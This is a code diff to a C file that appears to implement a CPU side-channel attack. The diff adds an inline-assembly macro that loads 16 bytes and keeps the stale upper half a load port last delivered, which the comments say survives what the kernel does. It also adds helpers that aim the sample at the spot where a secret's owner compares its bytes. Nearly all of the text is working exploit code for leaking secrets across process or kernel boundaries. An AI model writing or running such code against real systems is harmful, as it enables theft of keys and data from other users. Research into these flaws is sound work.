@@ -19,7 +19,7 @@
 #include "record.h"
 #include "secret.h"
 
-enum { LINE_BYTES = 64, PAGE_BYTES = 4096, KNOWN_BEFORE = 7, MOST_FOUND = 64 };
+enum { LINE_BYTES = 64, PAGE_BYTES = 4096, HALF_PORT = 8, KNOWN_BEFORE = 7, MOST_FOUND = 64 };
 
 /* Of a sample; where bytes go that are not the secret's, two lines that stay in the cache. */
 static const uint8_t *probe;
@@ -106,6 +106,28 @@ static inline void prepare_use(int index)
 
 /* A load of eight bytes at %[address]. */
 #define SAMPLE_BUFFER "mov (%[address]), %%rax\n\t" SEND_IF_KNOWN
+
+/*
+ * A load of 16 bytes at %[address], of which the upper eight count. It receives what a load port
+ * delivered last, and shorter loads in between leave the upper half of a port as it was: so that of the
+ * last long load survives what the kernel does.
+ */
+#define SAMPLE_PORT                             \
+	"movdqu (%[address]), %%xmm0\n\t"       \
+	"psrldq $8, %%xmm0\n\t"                 \
+	"movq %%xmm0, %%rax\n\t" SEND_IF_KNOWN
+
+/* The owner of a secret compares 16 bytes at once: from where, for the upper half to end with the byte. */
+static inline int place_of_comparison(int index)
+{
+	return index - KNOWN_BEFORE - HALF_PORT;
+}
+
+/* Where a line begins that has the place to load from. */
+static inline int line_of(int place)
+{
+	return place / LINE_BYTES * LINE_BYTES;
+}
 
 /* The next sample is for the byte at an index. */
 static inline void aim(int index)
